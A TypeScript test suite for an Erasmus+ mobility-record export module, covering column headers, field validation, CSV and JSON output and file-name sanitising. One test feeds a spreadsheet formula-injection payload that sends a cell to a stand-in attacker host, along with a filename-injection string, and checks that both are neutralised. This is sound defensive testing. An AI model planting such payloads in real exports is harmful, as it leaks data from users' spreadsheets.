import { describe, expect, it } from "vitest";
import { CSV_BOM } from "@/lib/domain/csv";
import { isoDateOrNull } from "@/lib/domain/dates";
import {
  type ExportRecord,
  RECORD_EXPORT_COLUMNS,
  RECORD_EXPORT_HEADERS,
  euros,
  exportColumnHeader,
  exportFileName,
  recordCategories,
  recordToJson,
  recordsToCsv,
  validateRecordForExport,
  validateRecordsForExport,
} from "@/lib/domain/record-export";
import { parseCsv } from "../../e2e/csv";

const day = (iso: string) => new Date(`${iso}T00:00:00.000Z`);

function record(overrides: Partial<ExportRecord> = {}): ExportRecord {
  return {
    mobilityId: "B-GENT01-KA131-2024-000001",
    agreementNumber: "2024-1-BE02-KA131-HED-000123456",
    action: "KA131",
    callYear: 2024,
    activityType: "HE-SMT",
    participantFirstName: "Zoë",
    participantLastName: "Van den Broeck",
    participantEmail: "zoe@example.be",
    participantBirthDate: day("2001-05-17"),
    participantNationality: "BE",
    participantGender: "F",
    recentGraduate: false,
    fewerOpportunities: true,
    fieldOfEducation: "0613",
    eqfLevel: 7,
    previousParticipationMonths: 0,
    mainLanguage: "nl",
    sendingName: "Ghent University",
    sendingErasmusCode: "B  GENT01",
    sendingOid: null,
    sendingCountry: "BE",
    sendingCity: "Gent",
    receivingName: "Bitwise B.V.",
    receivingPic: "912345678",
    receivingOid: null,
    receivingBelowTwoFifty: true,
    receivingSector: "J",
    receivingCountry: "NL",
    receivingCity: "Utrecht",
    startDate: day("2025-03-01"),
    endDate: day("2025-07-31"),
    durationDays: 153,
    virtualStart: null,
    virtualEnd: null,
    digitalSkills: true,
    categories: ["software-development", "data-analytics"],
    fundedMonths: 5,
    extraDays: 3,
    countryGroup: 2,
    monthlyRateCents: 54_000,
    dailyRateCents: 0,
    baseGrantCents: 275_400,
    topUpCents: 125_000,
    travelCents: 0,
    totalGrantCents: 400_450,
    approvedAt: new Date("2025-02-10T14:31:00.000Z"),
    ...overrides,
  };
}

describe("export columns (docs/domain.md §5)", () => {
  it("have unique keys and headers, in Beneficiary Module order", () => {
    expect(new Set(RECORD_EXPORT_COLUMNS.map((c) => c.key)).size).toBe(RECORD_EXPORT_COLUMNS.length);
    expect(new Set(RECORD_EXPORT_HEADERS).size).toBe(RECORD_EXPORT_HEADERS.length);
    expect(RECORD_EXPORT_HEADERS.slice(0, 8)).toEqual([
      "Agreement Number",
      "Mobility ID",
      "Key Action",
      "Call Year",
      "Activity Type",
      "Participant First Name",
      "Participant Last Name",
      "Participant Email",
    ]);
    expect(RECORD_EXPORT_HEADERS).toContain("Field of Education (ISCED-F)");
    expect(RECORD_EXPORT_HEADERS.at(-2)).toBe("Grant Total (EUR)");
  });

  it.each([
    ["mobilityId", "Mobility ID"],
    ["participantFirstName", "Participant First Name"],
    ["dateOfBirth", "Date of Birth"],
    ["receivingBelow250", "Receiving Size <250"],
    ["unknown-key", "unknown-key"],
  ])("header of %s is %s", (key, header) => {
    expect(exportColumnHeader(key)).toBe(header);
  });
});

describe("value helpers", () => {
  it.each([
    [day("2025-03-01"), "2025-03-01"],
    [day("2024-02-29"), "2024-02-29"],
    [null, null],
  ])("isoDateOrNull(%s) = %s", (date, iso) => {
    expect(isoDateOrNull(date)).toBe(iso);
  });

  it.each([
    [0, 0],
    [54_000, 540],
    [400_450, 4004.5],
    [1, 0.01],
  ])("euros(%i cents) = %d", (cents, eur) => {
    expect(euros(cents)).toBe(eur);
  });

  it.each([
    [
      ["software-development", "cybersecurity"],
      ["software-development", "cybersecurity"],
    ],
    [["cybersecurity", "cybersecurity"], ["cybersecurity"]], // duplicates once
    [["customer-support", "software-development"], ["software-development"]], // an excluded activity is not a DOT category
    [["made-up", 3, null], []],
    ["software-development", []], // not an array
    [null, []],
  ])("recordCategories(%j) = %j", (json, ids) => {
    expect(recordCategories(json)).toEqual(ids);
  });
});

describe("validateRecordForExport: required fields left blank", () => {
  it.each<[string, Partial<ExportRecord>, string[]]>([
    ["a complete record", {}, []],
    ["no legal first name yet", { participantFirstName: "" }, ["participantFirstName"]],
    ["names only blanks", { participantFirstName: "  ", participantLastName: " " }, ["participantFirstName", "participantLastName"]],
    ["null names", { participantFirstName: null, participantLastName: null }, ["participantFirstName", "participantLastName"]],
    ["no agreement number", { agreementNumber: "" }, ["agreementNumber"]],
    ["no birth date", { participantBirthDate: null }, ["dateOfBirth"]],
    ["no categories", { categories: [] }, ["dotCategories"]],
    ["no main language", { mainLanguage: "" }, ["mainLanguage"]],
    ["optional gender, PIC, OID and country group blank", { participantGender: null, receivingPic: null, receivingOid: null, countryGroup: null }, []],
    ["zero values are values", { previousParticipationMonths: 0, extraDays: 0, travelCents: 0, recentGraduate: false }, []],
    [
      "several, in column order",
      { participantBirthDate: null, agreementNumber: " ", receivingCity: "", participantLastName: "" },
      ["agreementNumber", "participantLastName", "dateOfBirth", "receivingCity"],
    ],
  ])("%s → %j", (_label, overrides, missing) => {
    expect(validateRecordForExport(record(overrides))).toEqual(missing);
  });

  it("lists only the records with problems, by mobility id", () => {
    const problems = validateRecordsForExport([
      record({ mobilityId: "M1" }),
      record({ mobilityId: "M2", participantFirstName: "" }),
      record({ mobilityId: "M3", participantBirthDate: null, agreementNumber: "" }),
    ]);
    expect(problems).toEqual([
      { mobilityId: "M2", action: "KA131", missing: ["participantFirstName"], invalid: [] },
      { mobilityId: "M3", action: "KA131", missing: ["agreementNumber", "dateOfBirth"], invalid: [] },
    ]);
  });
});

describe("recordsToCsv", () => {
  it("writes the header, ISO dates, Yes/No, euros with two decimals and accents intact", () => {
    const csv = recordsToCsv([record()]);
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    const [header, row] = parseCsv(csv.slice(1));
    expect(header).toEqual(RECORD_EXPORT_HEADERS);
    const cell = (name: string) => row![header!.indexOf(name)];
    expect(cell("Participant First Name")).toBe("Zoë");
    expect(cell("Sending Erasmus Code")).toBe("B  GENT01");
    expect(cell("Date of Birth")).toBe("2001-05-17");
    expect(cell("Start Date")).toBe("2025-03-01");
    expect(cell("End Date")).toBe("2025-07-31");
    expect(cell("Recent Graduate")).toBe("No");
    expect(cell("Fewer Opportunities")).toBe("Yes");
    expect(cell("Digital Skills")).toBe("ADVANCED");
    expect(cell("Monthly Rate (EUR)")).toBe("540.00");
    expect(cell("Grant Total (EUR)")).toBe("4004.50");
    expect(cell("Travel (EUR)")).toBe("0.00");
    expect(cell("Receiving OID")).toBe("");
    expect(cell("DOT Categories")).toBe("software-development; data-analytics");
    expect(cell("Approved On")).toBe("2025-02-10");
  });

  it("neutralises hostile names and keeps commas and quotes in one cell", () => {
    const csv = recordsToCsv([
      record({
        participantFirstName: '=HYPERLINK("http://evil.example/?d="&A1,"CV")',
        participantLastName: "@SUM(1+1)",
        receivingName: 'Acme, "Digital" Ltd',
        receivingCity: "-1+1",
      }),
    ]);
    const [header, row] = parseCsv(csv.slice(1));
    const cell = (name: string) => row![header!.indexOf(name)];
    expect(row).toHaveLength(header!.length);
    expect(cell("Participant First Name")).toBe(`'=HYPERLINK("http://evil.example/?d="&A1,"CV")`);
    expect(cell("Participant Last Name")).toBe("'@SUM(1+1)");
    expect(cell("Receiving Organisation Name")).toBe('Acme, "Digital" Ltd');
    expect(cell("Receiving City")).toBe("'-1+1");
  });

  it("writes only the header for no records", () => {
    expect(parseCsv(recordsToCsv([]).slice(1))).toEqual([RECORD_EXPORT_HEADERS]);
  });
});

describe("recordToJson", () => {
  it("keys every column with typed values", () => {
    const json = recordToJson(record({ receivingOid: null }));
    expect(Object.keys(json)).toEqual(RECORD_EXPORT_COLUMNS.map((c) => c.key));
    expect(json).toMatchObject({
      participantFirstName: "Zoë",
      callYear: 2024,
      dateOfBirth: "2001-05-17",
      recentGraduate: false,
      digitalSkills: "ADVANCED",
      grantTotal: 4004.5,
      receivingOid: null,
      dotCategories: "software-development; data-analytics",
    });
  });
});

describe("exportFileName", () => {
  it.each<[(string | number | null | undefined)[], string, string]>([
    [["dot-records", "2024-1-BE02-KA131-HED-000123456", 2024], "csv", "dot-records_2024-1-BE02-KA131-HED-000123456_2024.csv"],
    [["dot-records", "B  GENT01", "KA103", undefined], "json", "dot-records_B-GENT01_KA103.json"],
    [["dot-records", 'evil"; filename=x.exe', null], "csv", "dot-records_evil-filename-x.exe.csv"],
    [["Zoë's", ""], "csv", "Zo-s.csv"],
    [[], "csv", "export.csv"],
  ])("%j → %s", (parts, ext, name) => {
    expect(exportFileName(parts, ext)).toBe(name);
  });
});

describe("Beneficiary Module columns per action (docs/domain.md §3a)", () => {
  const vet = {
    action: "KA121-VET",
    activityType: "SM-JOB-SHDW",
    sendingErasmusCode: "",
    sendingOid: "E10234567",
    dailyRateCents: 15_300,
    monthlyRateCents: 0,
  };
  it.each([
    ["an HEI's record names its Erasmus code", {}, []],
    ["an HEI's record without its Erasmus code", { sendingErasmusCode: "" }, ["sendingErasmusCode"]],
    ["a VET provider's record is named by its OID, without an Erasmus code", vet, []],
    ["a VET provider's record without its OID", { ...vet, sendingOid: null }, ["sendingOid"]],
    ["a school's record (KA122-SCH) without its OID", { ...vet, action: "KA122-SCH", sendingOid: null }, ["sendingOid"]],
  ] as const)("%s → missing %o", (_label, patch, missing) => {
    expect(validateRecordForExport(record(patch))).toEqual(missing);
  });

  it("writes the daily rate and the virtual component's dates", () => {
    const json = recordToJson(record({ ...vet, virtualStart: day("2025-02-01"), virtualEnd: day("2025-02-20") }));
    expect(json).toMatchObject({
      keyAction: "KA121-VET",
      activityType: "SM-JOB-SHDW",
      sendingOid: "E10234567",
      dailyRate: 153,
      virtualStart: "2025-02-01",
      virtualEnd: "2025-02-20",
    });
  });
});
